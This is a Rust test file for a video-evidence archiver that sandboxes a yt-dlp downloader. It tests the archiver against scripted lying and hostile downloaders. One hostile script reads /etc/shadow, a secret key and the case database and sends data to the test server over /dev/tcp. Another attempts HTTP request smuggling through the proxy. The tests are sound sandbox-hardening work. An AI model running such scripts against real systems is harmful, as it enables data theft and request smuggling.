//! The downloader: a real one on real pages, and twenty that lie. What they say is not trusted, and they are kept in
//! their directory.

mod support;

use base64::Engine;
use serde_json::{Value, json};
use support::{Program, Server, example};

/// The real yt-dlp that tests/run installs.
fn real() -> String {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-tools/bin/yt-dlp");
    assert!(path.is_file(), "tests/run installs yt-dlp at {}", path.display());
    path.display().to_string()
}

fn media(name: &str) -> Vec<u8> {
    std::fs::read(example().join("media").join(name)).unwrap()
}

/// A case whose downloader is the given program.
fn case(program: &Program, downloader: &str) {
    program.run(&["init", "c"]).code(0);
    let settings = std::fs::read_to_string(program.path("c/exhibit.toml")).unwrap();
    let settings = settings
        .replace("downloader = \"yt-dlp\"", &format!("downloader = \"{downloader}\""))
        .replace("downloader_seconds = 1800", "downloader_seconds = 6")
        .replace("retry_milliseconds = 1000", "retry_milliseconds = 10");
    program.file("c/exhibit.toml", settings);
}

fn page(server: &Server, path: &str, body: &str) -> String {
    server.serve(
        path,
        "text/html",
        format!("<!DOCTYPE html><html><head><title>A clip of a street</title></head><body>{body}</body></html>"),
    );
    server.url(path)
}

/// Archives a report that embeds an address as a film, and gives the item's captures and exhibits.
fn archived(program: &Program, url: &str, code: i32) -> (Vec<Value>, Vec<Value>) {
    program.file("r.html", format!("<p>Footage shows a street in ruins.</p><iframe src=\"{url}\"></iframe>"));
    program.run(&["archive", "--case", "c", "r.html", "--allow-host", "127.0.0.1"]).code(code);
    let shown = program.run(&["--case", "c", "show", "I1", "--json"]).code(0).json();
    let listed = program.run(&["--case", "c", "list", "--json"]).code(0).json();
    (shown["captures"].as_array().unwrap().clone(), listed.as_array().unwrap().clone())
}

#[test]
fn footage_behind_a_player_is_obtained_as_served_with_what_the_platform_says() {
    let (program, server) = (Program::new(), Server::start());
    case(&program, &real());
    let film = media("convoy.mp4");
    server.serve("/film.mp4", "video/mp4", film.clone());
    let url = page(&server, "/player.html?video=1", "<video src='/film.mp4' controls></video>");
    let (captures, exhibits) = archived(&program, &url, 0);
    assert_eq!(captures.len(), 2, "{captures:#?}");
    assert_eq!((captures[0]["method"].as_str(), captures[0]["completeness"].as_str()), (Some("http"), Some("partial")));
    let own = &captures[1];
    assert_eq!(
        (own["method"].as_str(), own["outcome"].as_str(), own["completeness"].as_str()),
        (Some("yt-dlp"), Some("ok"), Some("complete"))
    );
    assert_eq!(own["sha256"].as_str().unwrap(), exhibit::evidence::Digest::of(&film).to_string(), "the bytes as served");
    // Everything that it asked for went through the gate, and is told.
    let hops = own["exchange"]["hops"].as_array().unwrap();
    assert!(
        hops.iter()
            .any(|hop| hop["url"].as_str().unwrap().ends_with("/film.mp4") && hop["connected"] == server.address.to_string()),
        "{hops:#?}"
    );
    let roles: Vec<&str> = exhibits.iter().map(|one| one["role"].as_str().unwrap()).collect();
    assert_eq!(roles, ["page", "original", "sidecar"]);
    let shown = program.run(&["--case", "c", "show", "I1"]).code(0).out;
    assert!(shown.contains("A clip of a street") && shown.contains("says the platform"), "{shown}");
    let log = program.run(&["--case", "c", "log", "--json"]).code(0).json();
    let tool = log.as_array().unwrap().iter().map(|row| &row["entry"]["event"]["tool"]).find(|tool| tool.is_object()).unwrap();
    assert_eq!((tool["name"].as_str(), tool["sha256"].as_str().map(str::len)), (Some("yt-dlp"), Some(64)));
    assert!(
        tool["arguments"].to_string().contains("--ignore-config")
            && tool["arguments"].to_string().contains("confined to its directory and to the gate"),
        "{tool}"
    );
    assert_eq!(program.run(&["--case", "c", "verify"]).code(0).code, Some(0));
    assert_eq!(std::fs::read_dir(program.path("c/scratch")).unwrap().count(), 0, "nothing is left behind");
}

#[test]
fn a_player_that_leads_inward_is_refused_at_the_gate() {
    let (program, server) = (Program::new(), Server::start());
    case(&program, &real());
    // A second server that is not permitted.
    let trap = std::net::TcpListener::bind("127.0.0.2:0").unwrap();
    trap.set_nonblocking(true).unwrap();
    let url =
        page(&server, "/player.html?video=2", &format!("<video src='http://{}/film.mp4'></video>", trap.local_addr().unwrap()));
    let (captures, _) = archived(&program, &url, 4);
    assert!(trap.accept().is_err(), "nobody connected");
    assert!(
        captures
            .iter()
            .any(|one| one["because"].as_str().unwrap().contains("not permitted") && one["outcome"] == "refused-by-policy"),
        "{captures:#?}"
    );
}

#[test]
fn without_a_downloader_the_page_is_kept_and_that_is_said() {
    let (program, server) = (Program::new(), Server::start());
    case(&program, "no-such-program");
    let url = page(&server, "/player.html?video=3", "<p>A player.</p>");
    let (captures, _) = archived(&program, &url, 0);
    assert_eq!(captures.len(), 1);
    assert!(
        captures[0]["because"].as_str().unwrap().contains("no downloader (yt-dlp) was found on this machine"),
        "{captures:#?}"
    );
}

/// Name, what it does in its directory, outcome and completeness.
const LIARS: &[(&str, &str, &str, &str)] = &[
    ("honest", "give media.0.22.mp4; info 33036 3.0; exit 0", "ok", "complete"),
    ("nothing", "exit 0", "error", "unverifiable"),
    ("nothing but words", "info 33036 3.0; exit 0", "error", "unverifiable"),
    ("cut file", "give media.0.22.mp4; cut media.0.22.mp4 20000; info 20000 3.0; exit 0", "ok", "truncated"),
    ("size does not fit", "give media.0.22.mp4; info 99999 3.0; exit 0", "ok", "truncated"),
    ("shorter than said", "give media.0.22.mp4; info 33036 600.0; exit 0", "ok", "truncated"),
    ("unfinished", "give media.0.22.mp4.part; info 33036 3.0; exit 0", "ok", "truncated"),
    ("unfinished beside", "give media.0.22.mp4; give media.0.140.m4a.part; info 33036 3.0; exit 0", "ok", "truncated"),
    ("fragments left", "give media.0.22.mp4; give media.0.22.mp4.part-Frag7; info 33036 3.0; exit 0", "ok", "truncated"),
    ("whole and failed", "give media.0.22.mp4; info 33036 3.0; exit 1", "ok", "truncated"),
    (
        "page for film",
        "echo '<!DOCTYPE html><html><body>unavailable</body></html>' > media.0.22.mp4; info 52 3.0; exit 0",
        "placeholder",
        "unverifiable",
    ),
    ("empty file", ": > media.0.22.mp4; info 0 3.0; exit 0", "error", "unverifiable"),
    ("no info", "give media.0.22.mp4; exit 0", "ok", "unverifiable"),
    ("broken info", "give media.0.22.mp4; echo '{' > media.0.info.json; exit 0", "ok", "unverifiable"),
    ("info of another shape", "give media.0.22.mp4; echo '[1]' > media.0.info.json; exit 0", "ok", "complete"),
    ("link to elsewhere", "ln -s /etc/hostname media.0.22.mp4; info 33036 3.0; exit 0", "error", "unverifiable"),
    (
        "private",
        "echo 'ERROR: [x] 1: Private video. Sign in if you have been granted access' >&2; exit 1",
        "private",
        "unverifiable",
    ),
    ("removed", "echo 'ERROR: This video has been removed by the uploader' >&2; exit 1", "removed-by-user", "unverifiable"),
    (
        "terminated",
        "echo 'ERROR: the account associated with this video has been terminated' >&2; exit 1",
        "removed-by-platform",
        "unverifiable",
    ),
    ("age", "echo 'ERROR: Sign in to confirm your age' >&2; exit 1", "age-gated", "unverifiable"),
    (
        "country",
        "echo 'ERROR: The uploader has not made this video available: not available in your country' >&2; exit 1",
        "geo-blocked",
        "unverifiable",
    ),
    ("never ends", "give media.0.22.mp4; info 33036 3.0; sleep 60", "ok", "truncated"),
    ("child never ends", "give media.0.22.mp4; info 33036 3.0; (sleep 60 &) ; exit 0", "ok", "complete"),
    (
        "talks without end",
        "give media.0.22.mp4; info 33036 3.0; head -c 5000000 /dev/zero | tr '\\0' x >&2; exit 0",
        "ok",
        "complete",
    ),
    ("dies", "give media.0.22.mp4; kill -9 $$", "ok", "truncated"),
];

fn liar(program: &Program, body: &str) -> String {
    let film = base64::engine::general_purpose::STANDARD.encode(media("convoy.mp4"));
    let script = format!(
        "#!/bin/sh\nfor a in \"$@\"; do [ \"$a\" = --version ] && {{ echo 1.liar; exit 0; }}; done\n\
         give() {{ base64 -d > \"$1\" <<'END'\n{film}\nEND\n}}\n\
         cut() {{ head -c \"$2\" \"$1\" > cut.tmp; mv cut.tmp \"$1\"; }}\n\
         info() {{ echo \"{{\\\"extractor_key\\\":\\\"Liar\\\",\\\"title\\\":\\\"T\\\",\\\"duration\\\":$2,\\\"formats\\\":[{{\\\"format_id\\\":\\\"22\\\",\\\"filesize\\\":$1}}]}}\" > media.0.info.json; }}\n\
         {body}\n"
    );
    let path = program.file("liar", script);
    std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    path.display().to_string()
}

#[test]
fn what_a_downloader_says_is_not_trusted() {
    assert!(LIARS.len() >= 20);
    let mut wrong = Vec::new();
    for (name, body, outcome, completeness) in LIARS {
        let (program, server) = (Program::new(), Server::start());
        case(&program, &liar(&program, body));
        let url = page(&server, "/player.html?video=1", "A player.");
        program.file("r.html", format!("<p>Footage shows a street in ruins.</p><iframe src=\"{url}\"></iframe>"));
        program.run(&["archive", "--case", "c", "r.html", "--allow-host", "127.0.0.1"]);
        let shown = program.run(&["--case", "c", "show", "I1", "--json"]).code(0).json();
        let own =
            shown["captures"].as_array().unwrap().iter().find(|one| one["method"] == "yt-dlp").unwrap_or(&json!(null)).clone();
        if (own["outcome"].as_str(), own["completeness"].as_str()) != (Some(outcome), Some(completeness)) {
            wrong.push(format!("{name}: {} {}: {}", own["outcome"], own["completeness"], own["because"]));
        }
        program.run(&["--case", "c", "verify", "--quick"]).code(0);
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_hostile_downloader_neither_reads_nor_writes_nor_connects_outside() {
    let (program, server) = (Program::new(), Server::start());
    // What must not be read: the case, the key, another file of this user.
    program.file("secret.txt", "canary");
    let (home, port) = (program.home.path().display().to_string(), server.address.port());
    let body = format!(
        "cat {home}/secret.txt >> got.txt; cat {home}/c/case.sqlite >> got.txt; cat {home}/config/exhibit/key >> got.txt; ls {home}/c >> got.txt; cat /etc/shadow >> got.txt\n\
         echo x > {home}/written.txt; echo x > /tmp/exhibit-written-$$; echo x >> {home}/c/exhibit.toml; rm -f {home}/secret.txt; mkdir {home}/made\n\
         ln -s {home}/secret.txt media.0.1.mp4; ln {home}/secret.txt media.0.2.mp4\n\
         setsid sh -c 'while :; do ln -sf {home}/secret.txt media.0.99.txt; sleep 0.01; done' {home}/outlives &\n\
         bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && printf \"GET /stolen HTTP/1.1\\r\\n\\r\\n\" >&3' && echo connected >> got.txt\n\
         [ -s got.txt ] && mv got.txt media.0.22.mp4 ; printf done > media.0.88.txt; exit 0"
    );
    case(&program, &liar(&program, &body));
    let before = std::fs::read(program.path("c/exhibit.toml")).unwrap();
    let url = page(&server, "/player.html?video=1", "A player.");
    let (captures, exhibits) = archived(&program, &url, 4);
    let own = captures.iter().find(|one| one["method"] == "yt-dlp").unwrap();
    assert!(matches!(own["outcome"].as_str(), Some("placeholder" | "error")), "it ran to its end: {own:#?}");
    assert!(own["received"].as_u64().unwrap() <= 4, "and got nothing: {own:#?}");
    assert_eq!(server.count("/stolen"), 0);
    assert!(program.path("secret.txt").exists() && !program.path("written.txt").exists() && !program.path("made").exists());
    assert_eq!(std::fs::read(program.path("c/exhibit.toml")).unwrap(), before);
    assert!(exhibits.iter().all(|one| one["role"] == "page"));
    let held = support::contents(&program.path("c/vault"));
    assert!(held.values().all(|bytes| !bytes.windows(6).any(|six| six == b"canary")), "nothing of others is in the vault");
    let running = std::fs::read_dir("/proc").unwrap().flatten().filter_map(|one| std::fs::read(one.path().join("cmdline")).ok());
    let outlives = format!("{home}/outlives");
    assert!(!running.into_iter().any(|line| String::from_utf8_lossy(&line).contains(&outlives)), "all of it ended");
}

#[test]
fn several_films_of_a_page_are_kept_each_with_its_own_facts() {
    let (program, server) = (Program::new(), Server::start());
    case(&program, &real());
    server.serve("/one.mp4", "video/mp4", media("convoy.mp4"));
    let two = [media("convoy.mp4"), b"\0\0\0\x0cfreebyte".to_vec()].concat();
    server.serve("/two.mp4", "video/mp4", two.clone());
    let url = page(&server, "/player.html?video=4", "<video src='/one.mp4'></video><video src='/two.mp4'></video>");
    let (captures, exhibits) = archived(&program, &url, 0);
    let own = captures.iter().find(|one| one["method"] == "yt-dlp").unwrap();
    assert_eq!((own["outcome"].as_str(), own["completeness"].as_str()), (Some("ok"), Some("complete")), "{own:#?}");
    let originals: Vec<&str> =
        exhibits.iter().filter(|one| one["role"] == "original").map(|one| one["sha256"].as_str().unwrap()).collect();
    for film in [media("convoy.mp4"), two] {
        assert!(originals.contains(&exhibit::evidence::Digest::of(&film).to_string().as_str()), "{exhibits:#?}");
    }
}

#[test]
fn the_gate_passes_one_request_of_one_reading() {
    use std::io::{Read, Write};
    let (program, server) = (Program::new(), Server::start());
    // Says at the gate what others could read as two requests, or with a body of unknown length.
    let body = r#"cat > ask.sh <<'ASK'
# The gate hangs up in the middle.
trap '' PIPE
page=${1%/*}; host=${page#http://}
gate=${http_proxy#http://}; word=$(printf %s "${gate%@*}" | base64 -w0); port=${gate##*:}; port=${port%/}
ask() {
    exec 3<>"/dev/tcp/127.0.0.1/$port"
    printf "GET $page/$1 HTTP/1.1\r\nHost: $host\r\nProxy-Authorization: Basic $word\r\n$2\r\n$3" >&3
    timeout 2 cat <&3 >/dev/null
    exec 3>&-
}
ask folded 'X: a\r\n b\r\n'
ask bare 'X: a\nY: b\r\n'
ask chunked 'Transfer-Encoding: chunked\r\n' '0\r\n\r\n'
ask behind '' "GET $page/smuggled HTTP/1.1\r\nHost: $host\r\n\r\n"
ask plain
ASK
for a in "$@"; do last=$a; done; bash ask.sh "$last"; rm ask.sh; exit 1"#;
    case(&program, &liar(&program, body));
    for path in ["/folded", "/bare", "/chunked", "/behind", "/plain", "/smuggled"] {
        server.on(path, |connection, _| {
            // All that came, and nothing behind it.
            let _ = connection.set_read_timeout(Some(std::time::Duration::from_millis(100)));
            let mut more = Vec::new();
            let _ = connection.read_to_end(&mut more);
            assert!(more.is_empty(), "{}", String::from_utf8_lossy(&more));
            let _ = connection.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
        });
    }
    let url = page(&server, "/player.html?video=1", "A player.");
    let (captures, _) = archived(&program, &url, 0);
    let asked = ["/folded", "/bare", "/chunked", "/behind", "/plain", "/smuggled"].map(|path| server.count(path));
    assert_eq!(asked, [0, 0, 0, 1, 1, 0], "{captures:#?}");
}
